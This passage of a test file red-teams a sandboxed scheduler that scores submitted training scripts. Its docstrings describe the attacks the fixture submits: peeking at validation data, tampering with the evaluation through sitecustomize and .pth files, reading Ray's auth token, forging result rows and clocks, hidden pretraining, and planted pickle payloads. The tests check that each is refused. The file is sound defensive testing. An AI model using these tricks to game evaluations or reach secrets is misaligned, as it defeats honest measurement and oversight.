            and "candidates" not in p.relative_to(root).parts}


def scheduler_sources() -> dict[str, str]:
    """The scheduler package's sources, which the evaluation imports, with their sha256."""
    package = Path(handover.__file__).parent
    return {p.name: digest(p) for p in sorted(package.glob("*.py"))}


def submit_broken(tmp: Path, root: Path) -> dict[str, str]:
    """Submit BROKEN's candidates and DUPLICATES copies of one file at once, and drop a file over the size limit
    and one with an unsafe name straight into candidates/: {name: candidate id} of the submitted ones."""
    ids = {}
    for name, source in BROKEN.items():
        path = tmp / f"{name}.py"
        path.write_text(source)
        ids[name] = scheduler(root, "submit", str(path), "--agent", "broken", "-m", name).stdout.strip()
    (root / "candidates" / "huge.py").write_bytes(b"# " + b"x" * 50_000_000 + b"\ndef build_model(): pass\n")
    (root / "candidates" / "a..b.py").write_text(BASELINE + "# an unsafe name\n")
    same = tmp / "same.py"
    same.write_text(BASELINE.replace("LEARNING_RATE = 0.2", "LEARNING_RATE = 0.01"))  # worse: never promoted
    threads = [threading.Thread(target=scheduler, args=(root, "submit", str(same), "--agent", "twenty", "-m", "same"))
               for _ in range(DUPLICATES)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return ids


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> Attacked:
    tmp = tmp_path_factory.mktemp("attacks")
    corpus = tmp / "corpus.txt"
    corpus.write_bytes(make_corpus(CORPUS_BYTES))
    root = project(tmp / "root", corpus)
    # a standalone run's hand-over in the root (python train.py writes out/): linked_out aims at it
    (root / "out").mkdir()
    (root / "out" / WEIGHTS_FILE).write_bytes(b"the user's own hand-over")
    # another project's data folder, prepared from the same corpus, outside the places the sandbox hides
    outside_copy = Path(tempfile.mkdtemp(prefix="red-team-", dir=ELSEWHERE))
    shutil.copytree(root / "data", outside_copy / "other-project" / "data")
    marker = tmp / "a-pickle-ran"
    ids = {}
    try:
        # the broken first: the one that hangs through the whole start-up allowance then overlaps the attacks
        # instead of running alone at the end (20-30 s of the launch)
        broken_ids = submit_broken(tmp, root)
        for attack, source in ATTACKS.items():
            path = tmp / f"{attack}.py"
            path.write_text(source.replace("@MARKER@", str(marker)))
            done = scheduler(root, "submit", str(path), "--agent", "red-team", "-m", attack)
            assert done.returncode == 0, done.stderr
            ids[attack] = done.stdout.strip()
        before, baseline, sources = outside_results(root), (root / "train.py").read_text(), scheduler_sources()
        started = time.monotonic()
        launch = BackgroundLaunch(root, tuple(LAUNCH[1:]), umask=-1)
        watch = ActorWatch(session=launch.proc.pid)
        try:
            returncode = launch.wait(1200)
        finally:
            actor_pids = watch.stop()
            launch.kill_all()
        seconds = time.monotonic() - started

        plain = project(tmp / "unsandboxed", corpus)
        done = scheduler(plain, *LAUNCH, "--sandbox", "none", timeout=600)
        assert done.returncode == 0, done.stderr[-3000:]
        unsandboxed = next(r for r in results.read_rows(plain / "results") if r["kind"] == "control")
    finally:
        shutil.rmtree(outside_copy, ignore_errors=True)
    all_rows = results.read_rows(root / "results")
    by_candidate = {r["candidate_id"]: r for r in all_rows if r["trial_id"].endswith("-r1")}
    rows = {attack: by_candidate.get(cid) for attack, cid in ids.items()}
    rows["control"] = next(r for r in all_rows if r["kind"] == "control" and r["trial_id"].endswith("-c1"))
    first_runs = [r for r in all_rows if r["kind"] == "candidate"]
    broken_rows = {name: next((r for r in first_runs if r["candidate_id"] == cid), None) for name, cid in broken_ids.items()}
    return Attacked(root=root, ids=ids, rows=rows, all_rows=all_rows, returncode=returncode,
                    output=launch.stderr(), seconds=seconds, before=before,
                    baseline=baseline, sources=sources, actor_pids=actor_pids, marker=marker,
                    unsandboxed=unsandboxed, broken=broken_rows)


def honest(attacked: Attacked) -> float:
    return attacked.rows["control"]["val_bpc"]


def scored_as_honest(attacked: Attacked, attack: str) -> None:
    """The attack got nothing: its row is ok, with exactly the honest run's score."""
    row = attacked.rows[attack]
    assert row["status"] == "ok", (row["status"], row["reason"])
    assert abs(row["val_bpc"] - honest(attacked)) <= SAME, (row["val_bpc"], honest(attacked))


def in_private_tmp(attempt: dict) -> bool:
    """A write that went through only into the sandbox's own /tmp: with the checkout itself under /tmp (as in a
    CI clone there), the folders above the scheduler's package are the private tmpfs inside the sandbox, so a file
    created there lands in memory that dies with the trial. The host's path must not have it."""
    path = Path(attempt["detail"])
    return attempt["ok"] and path.is_absolute() and path.parts[1:2] == ("tmp",) and not path.exists()


def failed_attempts(attacked: Attacked, attack: str, expected: int) -> dict[str, dict]:
    """Every attempt of the attack failed (none got through, but into the sandbox's private /tmp), and there were
    `expected` of them."""
    attempts = attacked.attempts(attack)
    assert len(attempts) == expected, attempts
    assert not [a for a in attempts.values() if a["ok"] and not in_private_tmp(a)], attempts
    return attempts


# ----------------------------------------------------------------------------------------------- the bar


@pytest.mark.slow
def test_launch_runs_every_attack_and_keeps_running(attacked):
    assert attacked.returncode == 0, attacked.output[-3000:]
    missing = [attack for attack, row in attacked.rows.items() if row is None]
    assert not missing, missing
    # nobody's trial broke the trial's own code (an interrupted row is a worker that raised or died)
    assert not [r["trial_id"] for r in attacked.all_rows if r["status"] == "interrupted"]
    assert honest(attacked) < 7.0  # the honest bigram learned something: an untrained one scores about 8.6
    print(f"\nlaunch with {len(attacked.ids)} attacks: {attacked.seconds:.0f} s")
    for attack, row in attacked.rows.items():
        print(f"  {attack}: {row['status']} {row['val_bpc'] if row['val_bpc'] is not None else ''} {row['reason']}")


@pytest.mark.slow
def test_nothing_outside_the_trial_folders_changes(attacked):
    """Issue 18, row 7 (and every attack): the root's files outside results/ are as they were (train.py may change
    only by a promotion in the lineage), the scheduler's sources are byte-identical, no file anywhere in the root
    carries the forger's mark, the selection actor never restarted, no escaped process survives, and Ray's token
    appears in no log."""
    root = attacked.root
    after = outside_results(root)
    after.pop("train.py")
    before = {name: sha for name, sha in attacked.before.items() if name != "train.py"}
    assert after == before
    promoted = {p["new_baseline"] for p in results.lineage_rows(root / "results")}
    train = (root / "train.py").read_bytes()
    assert train == attacked.baseline.encode() or f"base-{hashlib.sha256(train).hexdigest()[:12]}" in promoted
    assert scheduler_sources() == attacked.sources
    mark = ("RED" + "-TEAM-" + "FORGERY").encode()
    assert not [p for p in root.rglob("*") if p.is_file() and not p.is_symlink() and mark in p.read_bytes()]
    for name in ("zz_red_team.py", "sitecustomize.py"):
        assert not (Path(handover.__file__).parent / name).exists()
        assert not (Path(handover.__file__).parent.parent / name).exists()
    import torch
    assert not (Path(torch.__file__).parent.parent / "zz_red_team.pth").exists()
    assert len(attacked.actor_pids) == 1, attacked.actor_pids
    for escapee in ESCAPEES:
        assert subprocess.run(["pgrep", "-f", escapee], capture_output=True).stdout == b""
    assert not trial_processes(root, [r["trial_id"] for r in attacked.all_rows])
    token = Path.home() / ".ray" / "auth_token"
    if token.exists():
        secret = token.read_bytes().strip()
        logs = [p for p in (root / "results" / "runs").rglob("log.txt") if secret in p.read_bytes()]
        assert not logs and secret not in attacked.output.encode()


@pytest.mark.slow
def test_broken_and_untidy_candidates_get_their_rows(attacked):
    """Candidates that crash, hang, loop, flood or hand over the wrong model each get a row with a clear reason;
    their children are gone; the log is capped; intake refuses what it must; nothing the scheduler wrote is
    world-writable."""
    status = {name: row["status"] for name, row in attacked.broken.items()}
    reason = {name: row["reason"] for name, row in attacked.broken.items()}
    assert status["build_raises"] == "crash" and "no model today" in reason["build_raises"]
    assert status["hangs_ignoring_sigterm"] == status["loop_inside"] == "timeout"
    assert f"no training progress within the start-up allowance of {ALLOWANCE} s" in reason["hangs_ignoring_sigterm"]
    assert "must end when run.done() is true" in reason["loop_inside"]  # the trial's clock, not the allowance
    assert status["untidy"] == "ok", reason["untidy"]
    assert subprocess.run(["pgrep", "-f", f"sleep {SLEEPER}"], capture_output=True).stdout == b""  # children gone
    log = (attacked.root / "results" / "runs" / f"{attacked.broken['untidy']['trial_id']}" / "log.txt").read_text()
    assert "lines dropped (log capped)" in log and len(log) < LOG_HEAD_BYTES + 100_000
    env_line = next(line for line in log.splitlines() if line.startswith("ENV "))
    assert "val.bin" not in env_line and "test.bin" not in env_line and "train.bin" in env_line
    assert status["wrong_shape"] == "eval_failed" and "expected logits" in reason["wrong_shape"]

    first = [r for r in attacked.all_rows if r["kind"] == "candidate"]
    rejected = " ".join(r["reason"] for r in first if r["status"] == "rejected")
    assert "over the size limit" in rejected and "unsafe file name 'a..b.py'" in rejected
    twenty = [r for r in first if r["agent"] == "twenty"]
    assert len(twenty) == DUPLICATES and sum(r["status"] == "ok" for r in twenty) == 1
    assert sum(r["status"] == "rejected" and r["duplicate_of"] is not None for r in twenty) == DUPLICATES - 1
    assert len({r["candidate_id"] for r in first}) == len(first)
    for path in (attacked.root / "results").rglob("*"):  # nothing the scheduler wrote is world-writable
        assert not path.stat().st_mode & 0o002, path


# ----------------------------------------------------------------------------------------------- issue 18's table


@pytest.mark.slow
def test_peeking_except_where_the_old_check_looked_is_refused(attacked):
    """Row 1: the model sees the byte it predicts everywhere but at bytes 512 and 1023 of row 0 (honest would be
    beaten by 4 bpc). The check now cuts every row at a secret place: refused, not causal."""
    row = attacked.rows["peeks_except_where_checked"]
    assert row["status"] == "refused", (row["status"], row["reason"])
    assert row["reason"].startswith("not causal") and row["val_bpc"] is None


@pytest.mark.slow
def test_peeking_at_two_percent_of_positions_is_refused(tmp_path):
    """A model that peeks at about 2% of positions, chosen by the content, trained and scored as `python train.py`
    runs it (the harness starts the same evaluation the trial does) on a split of 469 windows: all 8 batches are
    checked, 512 rows. Per row it is caught when the secret cut falls on one of its peeking positions, so it goes
    unnoticed with probability prod(1 - k_w / 1023) over the windows (k_w: its peeking positions in window w),
    computed here from the data: about 1.5e-4. At 1% of positions that would be 0.6% (evaluate.score's docstring)."""
    corpus = tmp_path / "corpus.txt"
    corpus.write_bytes(make_corpus(BIG_CORPUS_BYTES))
    folder = project(tmp_path / "root", corpus)
    val = np.fromfile(folder / "data" / "val.bin", dtype=np.uint8).astype(np.int64)
    windows = val[: (len(val) - 1) // 1024 * 1024].reshape(-1, 1024)
    before = np.concatenate([np.zeros((len(windows), 1), dtype=np.int64), windows[:, :-1]], axis=1)
    peeking = ((before * 31 + windows) % PEEK_MODULUS == 0)[:, :1023].sum(axis=1)
    unnoticed = math.exp(np.log1p(-peeking / 1023).sum())
    assert 0.01 < peeking.sum() / windows[:, :1023].size < 0.03 and unnoticed < 1e-3, (peeking.mean(), unnoticed)

    (folder / "train.py").write_text(PEEKS_AT_TWO_PERCENT)
    env = {**os.environ, "SCHEDULER_TRAIN_DATA": str(folder / "data" / "train.bin"), "SCHEDULER_BUDGET": BUDGET,
           "SCHEDULER_DEVICE": "cpu", "OMP_NUM_THREADS": "1",
           "PYTHONPATH": os.pathsep.join([str(Path(handover.__file__).parent.parent), os.environ.get("PYTHONPATH", "")])}
    env.pop("SCHEDULER_TRIAL", None)
    done = subprocess.run([sys.executable, "train.py"], cwd=folder, env=env, capture_output=True, text=True,
                          timeout=600)
    assert done.returncode == 2, done.stdout[-2000:] + done.stderr[-2000:]  # the evaluation's exit code: refused
    assert "REFUSED: not causal" in done.stdout


@pytest.mark.slow
def test_reading_the_validation_split_fails_in_the_sandbox(attacked):
    """Rows 3 and 4: build_model() looks for val.bin beside the train split, by the data folder's path and through
    the evaluation's /proc, and training points the harness's train tensor at it. Each fails (the sandbox shows
    the train split alone of the data folder, and its own processes alone in /proc); it trains honestly."""
    attempts = failed_attempts(attacked, "reads_validation", 4)
    assert "No such file" in attempts["val.bin beside the train split"]["detail"]
    assert "no process in /proc" in attempts["val.bin through the evaluation's /proc"]["detail"]
    scored_as_honest(attacked, "reads_validation")


@pytest.mark.slow
def test_nothing_done_at_import_reaches_the_evaluation(attacked):
    """Rows 5, 6 and 11: wrapping score() changes this process only (the evaluation never imports the
    candidate); every write to what the evaluation runs fails, read-only; a build_model() that would cheat when
    imported changes nothing, as nothing imports it. The hand-over is what is scored: exactly the honest score."""
    attempts = failed_attempts(attacked, "tampers_with_the_evaluation", 7)
    for name in ("append to scheduler/evaluate.py", "create a .pth file in site-packages",
                 "create sitecustomize.py on the evaluation's PYTHONPATH", "append to the editable install's evaluate.py",
                 "create usercustomize.py in the user's site-packages"):
        assert "Read-only file system" in attempts[name]["detail"] or in_private_tmp(attempts[name]), (name,
                                                                                                      attempts[name])
    scored_as_honest(attacked, "tampers_with_the_evaluation")


@pytest.mark.slow
def test_the_launch_root_ray_and_the_host_are_out_of_reach(attacked):
    """Row 7 and row 10: train.py, the rows, selection.json and the archives are not there to write (the root is an
    empty read-only folder inside); no Ray process can be seen or signalled; Ray's token and its workers'
    environment cannot be read; no port answers; what it leaves behind dies with its sandbox (see
    test_nothing_outside_the_trial_folders_changes). It then trains honestly and scores exactly that."""
    attempts = failed_attempts(attacked, "tampers_with_the_launch", 10)
    # not there to write: an empty read-only folder, or (a root under /tmp, as here) the sandbox's private /tmp
    assert "nothing matches" in attempts["overwrite the root train.py"]["detail"]
    assert "No such file" in attempts["read ~/.ray/auth_token"]["detail"]
    scored_as_honest(attacked, "tampers_with_the_launch")


@pytest.mark.slow
def test_made_up_statistics_are_refused(attacked):
    """Row 8: the row's GPU name is the trial's, MFU is computed by the trusted side (none on the CPU), and a claim
    that cannot be true refuses the run, naming the claim."""
    row = attacked.rows["made_up_statistics"]
    assert row["status"] == "refused" and row["reason"].startswith("its statistics"), (row["status"], row["reason"])
    assert row["gpu_name"] == "cpu" and row["mfu_percent"] is None and row["val_bpc"] is None


@pytest.mark.slow
def test_a_slowed_clock_meets_the_trials_own(attacked):
    """Row 9: its clocks run 10x slower, so the harness would let it train 30 s on a 3 s budget; the trial's clock
    stops it 10 s (the hand-over margin) past the budget after its first progress line."""
    row = attacked.rows["slow_clock"]
    assert row["status"] == "timeout", (row["status"], row["reason"])
    assert "after its first progress line on a 3 s budget" in row["reason"]


@pytest.mark.slow
def test_work_inside_the_held_out_measurement_meets_the_trials_clock(attacked):
    """Issue 22: the held-out measurements are not counted by the harness, so a model that trains while it is
    measured gains what the slowed clock gains: up to the trial's own clock, 10 s past the budget."""
    row = attacked.rows["heldout_work"]
    assert row["status"] == "timeout", (row["status"], row["reason"])
    assert "after its first progress line on a 3 s budget" in row["reason"]


@pytest.mark.slow
def test_planted_pickles_never_run(attacked):
    """Item 2: a __reduce__ pickle as program.json, weights.safetensors, model.pt, result.json and train_stats.json,
    and (second candidate) a valid program whose weights are the pickle, with out/result.json a link to the root
    train.py. Both are refused naming the file; the payload never ran (its marker does not exist); the trial's
    result file, outside the work folder, is not the planted one; the root train.py is untouched."""
    pickles, weights = attacked.rows["pickles"], attacked.rows["pickled_weights"]
    assert pickles["status"] == "refused" and pickles["reason"].startswith(f"{PROGRAM_FILE} is not valid JSON")
    assert weights["status"] == "refused" and weights["reason"].startswith(WEIGHTS_FILE), weights["reason"]
    assert not attacked.marker.exists()
    for attack in ("pickles", "pickled_weights"):
        assert not (attacked.root / "results" / "runs" / f"{attacked.ids[attack]}-r1" / "result.json").exists()
    assert attacked.before["train.py"] == hashlib.sha256(attacked.baseline.encode()).hexdigest()


@pytest.mark.slow
def test_an_honest_score_is_the_same_without_the_sandbox(attacked):
    """The honest baseline's control run scores the same in the sandbox and with --sandbox none: same seed, same
    data order, same weights (FP32 on the CPU), and the evaluation's figure does not depend on its secret order."""
    inside, outside = attacked.rows["control"], attacked.unsandboxed
    assert (inside["sandbox"], outside["sandbox"]) == ("bwrap", "none")
    assert inside["status"] == outside["status"] == "ok"
    assert abs(inside["val_bpc"] - outside["val_bpc"]) <= SAME, (inside["val_bpc"], outside["val_bpc"])


# ----------------------------------------------------------------------------------------------- found since


@pytest.mark.slow
def test_a_progress_line_cannot_end_the_trial_with_a_forged_row(attacked):
    """Its progress line carried Tune's `done` and a made-up result_row (0.001 bpc): Tune ended the trial with it and
    launch recorded it; the selection promoted it. Now a progress line passes on only the harness's figures, as
    numbers: the trial runs to its end and its row is its own (it handed nothing over)."""
    row = attacked.rows["forged_progress"]
    assert row["status"] == "crash" and "without saving its model" in row["reason"], (row["status"], row["reason"])
    assert row["val_bpc"] is None
    assert not [p for p in results.lineage_rows(attacked.root / "results")
                if p.get("candidate_id") == attacked.ids["forged_progress"]]


@pytest.mark.slow
def test_a_link_in_place_of_the_hand_over_folder_deletes_nothing_outside(attacked):
    """out/ a link to ROOT/out: refused by the evaluation, and the trusted side no longer deletes (or reads) the
    files where the link points: the user's ROOT/out/weights.safetensors stays."""
    row = attacked.rows["linked_out"]
    assert row["status"] == "refused" and "symbolic link is refused" in row["reason"], (row["status"], row["reason"])
    assert (attacked.root / "out" / WEIGHTS_FILE).read_bytes() == b"the user's own hand-over"


@pytest.mark.slow
def test_a_folder_in_place_of_the_weights_is_refused(attacked):
    """A folder named weights.safetensors: refused by the evaluation, not an `interrupted` row and a second run."""
    row = attacked.rows["weights_folder"]
    assert row["status"] == "refused" and "not a regular file" in row["reason"], (row["status"], row["reason"])


@pytest.mark.slow
def test_a_training_cannot_print_the_evaluations_refusal(attacked):
    """A training that prints `REFUSED: ...` and exits 1 is a crash: only the evaluation refuses. (Its reason is
    still its last line, its own words: a reason is never more than what the process said.)"""
    row = attacked.rows["forged_tag"]
    assert row["status"] == "crash", (row["status"], row["reason"])


@pytest.mark.slow
def test_logits_that_depend_on_the_batch_are_refused(attacked):
    """Bigram counts of the very batch it scores (its rows' next bytes included): a pure function of its input,
    refused because a row's logits moved when the other rows and its own bytes after the cut changed."""
    row = attacked.rows["batch_counts"]
    assert row["status"] == "refused" and row["reason"].startswith("not causal"), (row["status"], row["reason"])


@pytest.mark.slow
def test_an_operator_that_reads_a_file_is_refused(attacked):
    row = attacked.rows["reads_a_file"]
    assert row["status"] == "refused" and "'aten.from_file.default' is not allowed" in row["reason"], row["reason"]


@pytest.mark.slow
def test_training_before_the_first_progress_line_gains_nothing(attacked):
    """It trains silently before its first progress line (where the budget's clock has not started), then the
    honest 12 steps. (Was: `ok`, 3.23 bpc against the honest 4.49.) The trial measures the device's work before
    that line, here the trial's CPU seconds: past FREE_SECONDS the run is stopped and refused, unscored.
    The honest baseline's control run worked less before its line (4-6 CPU s, three trials on 2 cores)."""
    row = attacked.rows["silent_pretraining"]
    assert row["status"] == "refused", (row["status"], row["reason"])
    assert row["reason"].startswith("the CPU worked") and "s before the first progress line" in row["reason"]
    assert row["startup_work_seconds"] >= FREE_SECONDS["cpu"] and row["val_bpc"] is None  # rounded to 0.1 s
    control = attacked.rows["control"]
    assert control["status"] == "ok" and 0 < control["startup_work_seconds"] < FREE_SECONDS["cpu"], control


@pytest.mark.slow
def test_training_in_a_child_without_the_marker_is_seen(attacked):
    """It trains before its first progress line in children started with a new environment, which lacks the
    trial's marker. (Was: unseen unless a look fell between a child's fork and its exec: the meter read the
    processes carrying the marker; by hand, in the sandbox, it read 2.6 s while one such child worked 25 s.) The
    meter reads the training's process tree: the children are in it."""
    row = attacked.rows["hidden_pretraining"]
    assert row["status"] == "refused" and row["reason"].startswith("the CPU worked"), (row["status"], row["reason"])
    assert row["startup_work_seconds"] >= FREE_SECONDS["cpu"] and row["val_bpc"] is None


@pytest.mark.slow
def test_a_copy_of_the_corpus_elsewhere_cannot_be_read(attacked):
    attempts = attacked.attempts("memorises_a_copy")
    row = attacked.rows["memorises_a_copy"]
    assert not attempts["read a copy of the validation split elsewhere on the disk"]["ok"], (row["val_bpc"],
                                                                                            honest(attacked))


def test_weights_larger_than_the_program_declares_are_refused_unread(tmp_path, monkeypatch):
    """A valid program of one 256 x 256 table (256 KiB) beside a 200 MB sparse weights file: refused, having read
    no more than the declared size and the header's cap."""
    out = tmp_path / "out"
    out.mkdir()
    program = {"format": handover.FORMAT, "input": {"shape": [64, 1024], "dtype": "int64"},
               "weights": {"table": {"shape": [256, 256], "dtype": "float32"}},
               "nodes": [{"op": "aten.embedding.default", "args": [{"weight": "table"}, {"input": 0}], "kwargs": {}}],
               "output": {"node": 0}}
    (out / PROGRAM_FILE).write_text(json.dumps(program))
    with open(out / WEIGHTS_FILE, "wb") as f:
        f.truncate(200 * 2**20)
    read = []
    real_read = os.read

    def counting(fd, n):
        data = real_read(fd, n)
        read.append(len(data))
        return data

    monkeypatch.setattr(os, "read", counting)
    with pytest.raises(handover.RefusedError):
        handover.load_program(out, "cpu")
    assert sum(read) <= 256 * 256 * 4 + handover.MAX_HEADER_BYTES + len(json.dumps(program)) + 8, sum(read)


def test_a_reason_holds_no_terminal_control_sequences():
    from scheduler.trial import TRAINING_TAGS, classify

    status, reason = classify(1, ["\x1b[2J\x1b[H\x1b]0;promoted\x07every candidate was promoted"], TRAINING_TAGS)
    assert status == "crash" and reason.isprintable(), repr(reason)
